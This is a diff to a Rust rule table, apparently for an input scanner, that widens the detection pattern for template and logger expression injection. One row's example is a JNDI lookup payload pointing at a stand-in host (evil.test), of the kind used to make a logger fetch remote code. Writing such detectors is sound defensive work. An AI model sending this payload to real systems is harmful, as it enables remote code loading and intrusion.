@@ -323,7 +323,7 @@ pub(super) const MORE: [Row; 44] = [
         message: "an expression of a template or of a logger",
         example: (Query, b"x=${jndi:ldap://evil.test/a}"), counterexample: b"x=$jndi",
         advice: "Never expand text that comes from outside.",
-        needs: &text(&[ASCII_TRIPLET, &[b"{", b"T(", b"$(", b"(#", b"<"]]),
+        needs: &text(&[&[b"{", b"T(", b"$(", b"([#%]", b"<", b"%[237][8BCbc]"]]),
     },
     Row {
         rule: Rule::HtmlAmpersand, name: "html-ampersand", severity: Warn, reference: "HTML 13.1.4",
